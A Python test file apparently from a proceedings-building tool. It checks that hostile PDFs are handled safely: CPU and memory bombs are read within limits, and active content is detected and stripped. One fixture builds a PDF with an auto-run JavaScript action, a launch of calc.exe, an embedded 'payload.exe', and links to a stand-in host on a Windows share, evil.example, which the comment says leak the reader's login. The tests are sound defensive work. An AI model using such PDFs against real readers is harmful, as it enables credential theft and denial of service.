"""PDFs from strangers: each one that used to crash a build or take the machine, made here and read
under a time or memory limit."""

from __future__ import annotations

import io
import re
import resource
import subprocess
import sys
import time
from pathlib import Path

import pikepdf
import pypdfium2
import pytest
from fpdf import FPDF
from PIL import Image, ImageChops, ImageStat
from pypdf import PdfWriter
from pypdf.generic import DecodedStreamObject, DictionaryObject, NameObject

from proceedings.inputs.loader import load
from proceedings.inputs.pdf import PdfCache, pdf_facts
from proceedings.model.locations import Project
from proceedings.outputs.previews import MAX_HEIGHT, WIDTH, render_preview
from proceedings.outputs.samples import sample_pdf
from proceedings.outputs.volume_pdf import write_volume_pdf


def cpu_bomb(path: Path, pages: int, megabytes: int) -> None:
    """``pages`` pages sharing one content stream of ``megabytes`` MB of text operators (pypdf took
    about ten seconds a page to give up on it)."""
    writer = PdfWriter()
    content = DecodedStreamObject()
    content.set_data(b"BT /F1 1 Tf 0 0 Td (a) Tj ET\n" * (megabytes * 1_000_000 // 29))
    shared = writer._add_object(content.flate_encode(level=9))
    font = DictionaryObject({NameObject("/Type"): NameObject("/Font"), NameObject("/Subtype"): NameObject("/Type1"),
                             NameObject("/BaseFont"): NameObject("/Helvetica")})
    resources = DictionaryObject({NameObject("/Font"): DictionaryObject({NameObject("/F1"): writer._add_object(font)})})
    for _ in range(pages):
        page = writer.add_blank_page(width=612, height=792)
        page[NameObject("/Contents")] = shared
        page[NameObject("/Resources")] = resources
    writer.write(path)


def test_a_pdf_without_pages_is_an_error(tmp_path):
    path = tmp_path / "zero.pdf"
    PdfWriter().write(path)
    facts = pdf_facts([path], PdfCache(tmp_path / "cache"))[path]
    assert facts.error == "the PDF has no pages"


def test_a_shared_giant_content_stream_is_not_extracted_page_after_page(tmp_path):
    path = tmp_path / "bomb.pdf"
    cpu_bomb(path, pages=1000, megabytes=19)
    assert path.stat().st_size < 300_000
    start = time.perf_counter()
    facts = pdf_facts([path], PdfCache(tmp_path / "cache"), workers=1)[path]
    assert time.perf_counter() - start < 20
    assert facts.error is None and facts.pages == 1000 and not facts.has_text
    assert facts.text_skipped == 1000


def test_text_is_still_extracted_beside_a_page_too_large_to_read(tmp_path):
    ordinary, bomb, both = tmp_path / "ordinary.pdf", tmp_path / "bomb.pdf", tmp_path / "both.pdf"
    sample_pdf(ordinary, "Operator Learning", ["Ada Lovelace"], "An abstract.", pages=2, phrase="zanzibar quokka")
    cpu_bomb(bomb, pages=1, megabytes=19)
    with pikepdf.open(ordinary) as first, pikepdf.open(bomb) as second:
        first.pages.extend(second.pages)
        first.save(both)
    cache = PdfCache(tmp_path / "cache")
    facts = pdf_facts([both], cache, workers=1)[both]
    assert facts.pages == 3 and facts.text_skipped == 1 and "zanzibar quokka" in " ".join(cache.text(facts.sha256).split())


def _limited(megabytes: int):
    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (megabytes << 20, megabytes << 20))
    return limit


def test_the_preview_of_a_needle_page_is_rendered_in_bounded_memory(tmp_path):
    """A 1 × 3000 pt page scaled to the preview's width asked pdfium for a 480 × 1,440,000 pixel bitmap."""
    path = tmp_path / "needle.pdf"
    writer = PdfWriter()
    writer.add_blank_page(width=1, height=3000)
    writer.write(path)
    code = ("import sys; from pathlib import Path; from proceedings.outputs.previews import render_preview; "
            "print(render_preview(Path(sys.argv[1]), 'needle', Path(sys.argv[2])))")
    done = subprocess.run([sys.executable, "-c", code, str(path), str(tmp_path / "cache")], capture_output=True,
                          text=True, timeout=60, preexec_fn=_limited(1500))
    assert done.returncode == 0, done.stderr[-2000:]
    with Image.open(done.stdout.strip()) as image:
        assert image.height <= MAX_HEIGHT and image.width >= 1


def test_the_preview_of_an_ordinary_page_is_its_full_width(tmp_path):
    path = tmp_path / "a.pdf"
    sample_pdf(path, "T", ["X"], "A.", pages=1)
    with Image.open(render_preview(path, "a", tmp_path / "cache")) as image:
        assert abs(image.width - WIDTH) <= 1 and image.height > WIDTH  # pdfium rounds up


def test_the_preview_keeps_the_page_s_colours(tmp_path):
    # pdfium is asked for RGB rather than its own BGR: red must not come out blue.
    path = tmp_path / "colours.pdf"
    document = FPDF(unit="pt", format=(600, 200))
    document.add_page()
    for left, colour in ((0, (230, 20, 20)), (200, (20, 160, 40)), (400, (30, 40, 220))):
        document.set_fill_color(*colour)
        document.rect(left, 0, 200, 200, style="F")
    document.output(str(path))
    with Image.open(render_preview(path, "colours", tmp_path / "cache")) as image:
        shown = image.convert("RGB")
        middles = [shown.getpixel((round(WIDTH * x), shown.height // 2)) for x in (1 / 6, 3 / 6, 5 / 6)]
    for pixel, colour in zip(middles, ((230, 20, 20), (20, 160, 40), (30, 40, 220)), strict=True):
        assert all(abs(a - b) <= 12 for a, b in zip(pixel, colour, strict=True)), (pixel, colour)


@pytest.mark.parametrize("pdf", sorted((Path(__file__).parents[2] / "papers" / "pdf").glob("*.pdf"))[:2], ids=lambda p: p.stem)
def test_the_preview_s_palette_is_as_close_to_the_page_as_one_chosen_from_every_pixel(tmp_path, pdf):
    """The palette is chosen from the page at half its size (four times faster): its colours are
    as close to the page's, on average, as those of an octree of every pixel."""
    document = pypdfium2.PdfDocument(pdf)
    page = document[0]
    rendered = page.render(scale=WIDTH / page.get_width(), may_draw_forms=True, rev_byteorder=True).to_pil()
    document.close()

    def error(image: Image.Image) -> float:
        return sum(ImageStat.Stat(ImageChops.difference(rendered, image.convert("RGB"))).mean) / 3
    with Image.open(render_preview(pdf, "shipped", tmp_path)) as preview:
        assert preview.mode == "P" and preview.size == rendered.size
        ours = error(preview)
    assert ours <= error(rendered.quantize(64, method=Image.Quantize.FASTOCTREE)) + 0.3 and ours < 3


def _with_active_content(path: Path) -> None:
    """Add to the PDF at ``path`` a script run on opening, page annotations that launch a program,
    open other files (a red-team trial's, on a Windows network share: the reader's login is sent to
    it) or play a movie from one, an attached file, and a web link (which is not active)."""
    with pikepdf.open(path, allow_overwriting_input=True) as pdf:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('pdf')"))
        pdf.Root.OpenAction = pdf.make_indirect(script)
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe"))
        link = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://example.org/paper"))
        # Links to other files, which Windows readers open on a network share, sending it the login.
        share = pikepdf.Dictionary(S=pikepdf.Name.GoToR, F=pikepdf.String("\\\\evil.example\\share\\x.pdf"), D=pikepdf.Array([0]))
        file = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("file://evil.example/share/y.pdf"))
        thread = pikepdf.Dictionary(S=pikepdf.Name.Thread, F=pikepdf.String("\\\\evil.example\\share\\z.pdf"), D=0)
        movie = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Movie, Rect=[40, 0, 50, 10],
                                   Movie=pikepdf.Dictionary(F=pikepdf.String("\\\\evil.example\\share\\m.mov")))
        pdf.pages[0].obj.Annots = pdf.make_indirect(pikepdf.Array([
            *(pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link,
                                                   Rect=[0, 0, 10, 10], A=action)) for action in (launch, link, share, file, thread)),
            pdf.make_indirect(movie)]))
        pdf.attachments["payload.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ payload")
        pdf.save(path)


def test_active_content_is_reported_and_left_out_of_the_volume(project, tmp_path):
    _with_active_content(project / "papers" / "pdf" / "paper-one.pdf")
    volume, diags = load(Project(project))
    assert volume is not None and volume.pdfs["pdf/paper-one.pdf"].active == (
        "JavaScript", "embedded files", "launch actions", "links to other files", "media players")
    assert volume.pdfs["pdf/paper-two.pdf"].active == ()
    message = next(str(d) for d in diags.items if "paper-one.pdf holds" in str(d))
    assert message.startswith("papers/accepted.yml:") and "launch actions and links to other files and media players" in message
    target = tmp_path / "volume.pdf"
    write_volume_pdf(volume, project / "papers", [], target)
    with pikepdf.open(target) as written:
        uris = [str(annotation.A.URI) for page in written.pages for annotation in page.obj.get("/Annots", [])]
        plain = io.BytesIO()
        written.save(plain, compress_streams=False, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    assert not any(token in plain.getvalue() for token in (b"/JavaScript", b"/Launch", b"/EmbeddedFile", b"MZ payload",
                                                           b"/GoToR", b"evil.example"))
    assert uris == ["https://example.org/paper"]


def test_revision_and_erratum_files_go_through_the_pdf_checks(project):
    accepted = project / "papers" / "accepted.yml"
    accepted.write_text(accepted.read_text("utf-8").replace("  pdf: pdf/paper-one.pdf\n", (
        "  pdf: pdf/paper-one.pdf\n  erratum: {date: 2026-05-01, note: Fixed, pdf: accepted.yml}\n"
        "  revisions:\n    - {date: 2026-04-01, note: First, pdf: pdf/paper-two.pdf}\n"), 1), "utf-8")
    volume, diags = load(Project(project))
    errors = [str(d) for d in diags.items if d.severity.value == "error"]
    assert volume is None and len(errors) == 1, errors
    assert re.match(r"papers/accepted\.yml:\d+: error: papers\[0\]\.erratum \(paper-one\): papers/accepted\.yml: not a PDF file", errors[0])
